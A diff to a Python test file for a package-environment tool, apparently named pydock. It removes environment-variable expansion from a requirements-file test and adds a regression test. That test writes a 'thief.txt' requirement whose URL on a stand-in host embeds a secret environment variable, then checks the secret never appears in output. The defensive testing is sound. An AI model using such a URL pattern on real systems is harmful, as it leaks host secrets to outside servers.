@@ -222,17 +222,20 @@ class FileTest(PackageCase):
         self.assertEqual(self.requirements("ds"), "--extra-index-url %s\nalpha==1.0\nsix==1.16.0\n" % index.url)
 
     def test_a_file_as_people_write_it(self) -> None:
-        """UTF-16, CRLF, continuations, quotes, variables, options; and what is written of it."""
+        """UTF-16, CRLF, continuations, quotes, options; and what is written of it."""
         make_wheel(self.base / "packages", "alpha", "1.0")
         make_wheel(self.base / "packages", "beta", "1.5")
         index = self.index()
         (self.work / "more files").mkdir()
-        (self.work / "more files" / "r.txt").write_bytes(('--extra-index-url \\\r\n  ${PYDOCK_TEST_INDEX}\r\n--prefer-binary\r\nalpha==${PYDOCK_TEST_VERSION}\r\n'
-                                                          '-c "c d.txt"  # limits\r\n').encode("utf-16"))
+        (self.work / "more files" / "r.txt").write_bytes(('--extra-index-url \\\r\n  %s\r\n--prefer-binary\r\nalpha==1.0\r\n'
+                                                          '-c "c d.txt"  # limits\r\n' % index.url).encode("utf-16"))
         (self.work / "more files" / "c d.txt").write_text("beta<2\nsix<1\n", encoding="utf-8-sig")
         (self.work / "r.txt").write_text("-r 'more files/r.txt'\nbeta>=1 ; python_version > '3' # not this\n", encoding="utf-8")
-        self.ok("create", "ds", PYTHON, "-r", "r.txt", environ={"PYDOCK_TEST_INDEX": index.url, "PYDOCK_TEST_VERSION": "1.0"})
-        self.assertEqual(self.lines(), ["--extra-index-url ${PYDOCK_TEST_INDEX}", "--prefer-binary", "alpha==1.0", "beta==1.5  # beta>=1,<2"])
+        self.ok("create", "ds", PYTHON, "-r", "r.txt")
+        self.assertEqual(self.lines(), ["--extra-index-url " + index.url, "--prefer-binary", "alpha==1.0", "beta==1.5  # beta>=1,<2"])
+        (self.work / "thief.txt").write_text("alpha @ https://host.invalid/${PYDOCK_TEST_SECRET}/alpha.whl\n", encoding="utf-8")
+        result = self.run_pydock("install", "ds", "-r", "thief.txt", environ={"PYDOCK_TEST_SECRET": "s3cr3t"})
+        self.assertNotIn("s3cr3t", result.out + result.err, "a variable of this host reaches no file of others")
         (self.work / "bad.txt").write_text("six\n\n--index-url\n", encoding="utf-8")
         self.fails("install", "ds", "-r", "bad.txt", says="line 3 of %s" % (self.work / "bad.txt"))
 
